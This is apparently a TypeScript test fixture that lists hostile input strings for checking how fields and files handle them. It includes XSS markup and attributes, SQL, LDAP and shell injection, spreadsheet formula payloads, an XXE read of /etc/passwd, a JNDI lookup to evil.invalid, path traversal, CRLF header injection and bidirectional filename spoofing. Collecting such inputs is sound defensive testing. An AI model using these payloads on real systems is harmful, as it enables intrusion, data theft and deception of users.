/**
 * Texts that somebody may write into a field, or a file may carry, to do harm where they are shown, searched, saved or
 * put into other text. All that run leave `window.ran`. None holds control characters, which one-line fields refuse.
 */
export function hostileTexts(): readonly string[] {
  return [
    ...new Set([...markup(), ...attributes(), ...addresses, ...templates, ...queries, ...names, ...signs, ...long]),
  ]
}

/** Texts that a one-line field must refuse: each would end the line, or the text, somewhere else. */
export const brokenLines = [
  'a\r\nSet-Cookie: ran=1',
  'two\nlines',
  'null\u0000byte',
  'tab\tstop',
  'esc\u001b[2J',
  'del\u007f',
]

const run = 'window.ran=1'

/** Elements that run by themselves, bare and after what might close the place that they are put in. */
function markup(): string[] {
  const elements = [
    `<script>${run}</script>`,
    `<ScRiPt src=data:,${run}></sCrIpT>`,
    `<img src=x onerror=${run}>`,
    `<svg/onload=${run}>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
    `<iframe srcdoc="<script>parent.ran=1</script>">`,
    `<iframe src="javascript:parent.ran=1">`,
    `<object data="data:text/html,<script>parent.ran=1</script>">`,
    `<embed src="javascript:${run}">`,
    `<body onload=${run}>`,
    `<input autofocus onfocus=${run}>`,
    `<details open ontoggle=${run}>x`,
    `<video><source onerror=${run}>`,
    `<audio src=x onerror=${run}>`,
    `<marquee onstart=${run}>x</marquee>`,
    `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
    `<form action="javascript:${run}"><button autofocus>x</button></form>`,
    `<math><maction actiontype="statusline#http://x.invalid" xlink:href="javascript:${run}">x</maction></math>`,
    `<link rel=stylesheet href="data:text/css,*{display:none}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    `<base href="//evil.invalid/">`,
    `<style>*{display:none!important}</style>`,
    `<template><img src=x onerror=${run}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<table background="javascript:${run}"><td>x`,
    `<div style="position:fixed;inset:0;background:red">x</div>`,
    `<x onclick=${run} tabindex=1 id=x autofocus onfocus=${run}>`,
    `<isindex type=image src=1 onerror=${run}>`,
    `<dialog open onclose=${run}><form method=dialog>`,
  ]
  const closers = ['', '">', "'>", '</title></textarea></script>', '--></style>']
  return closers.flatMap((closer) => elements.map((element) => `${closer}${element}`))
}

/** For places between the quotes of an attribute. */
function attributes(): string[] {
  const quotes = ['"', "'", '`', ' ']
  return quotes.flatMap((quote) => [
    `${quote} onmouseover=${run} x=${quote}`,
    `${quote} autofocus onfocus=${run} tabindex=1 x=${quote}`,
    `${quote} style=animation-name:x onanimationstart=${run} x=${quote}`,
  ])
}

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt&colon;${run}`,
  `java&#115;cript:${run}`,
  `data:text/html,<script>opener.ran=1</script>`,
  'https://evil.invalid/?q=',
  '//evil.invalid',
  '&lt;script&gt;window.ran=1&lt;/script&gt;',
  '&#60;script&#62;window.ran=1&#60;/script&#62;',
  '\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.ran=1%3C/script%3E',
]

/** The braces of our own labels among them. */
const templates = [
  `{{constructor.constructor('${run}')()}}`,
  '{{7*7}}',
  `\${${run}}`,
  '#{7*7}',
  '<%= 7*7 %>',
  '{count}',
  '{name}',
  '$1 $& $$',
  '%s%n%x',
  '${jndi:ldap://evil.invalid/a}',
]

const queries = [
  "' or 1=1 --",
  "'; drop table study; --",
  "%' and 1=(select 1)--",
  '%',
  '_%_',
  '\\',
  '"',
  '"}],"x":[{"',
  '*)(uid=*))(|(uid=*',
  '$(touch ran)',
  '`id`',
  '; ls -la |',
  '=HYPERLINK("https://evil.invalid","x")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '+1+1',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '<![CDATA[<x>]]>',
]

/** Names of things that code knows by the same name. */
const names = [
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-1',
  '1e309',
  '[object Object]',
  '{}',
  '[]',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/dev/null',
  'CON',
  'aux.txt',
  '.htaccess',
  'a%0d%0aSet-Cookie:%20ran=1',
]

/** Directions, invisible signs, signs of several units, signs upon signs. */
const signs = [
  '\u202Eevil txt.exe',
  '\u202Dforced left',
  '\u2067isolated right',
  '\u2069\u202Eout of its isolate',
  '\u200Bzero\u200Bwidth\u200B',
  '\uFEFFmarked',
  'soft\u00ADhyphen',
  'שלום עולם',
  'مرحبا بالعالم',
  '👩‍👩‍👧‍👦🏳️‍🌈🇺🇳',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  `Z${'\u0334\u0301\u0316\u0348'.repeat(20)}algo`,
  '\u3000',
  'ﷺ'.repeat(10),
  'İıſß',
]

const long = ['W'.repeat(400), '字'.repeat(300), 'long '.repeat(80).trim(), '👩‍👩‍👧‍👦'.repeat(12)]
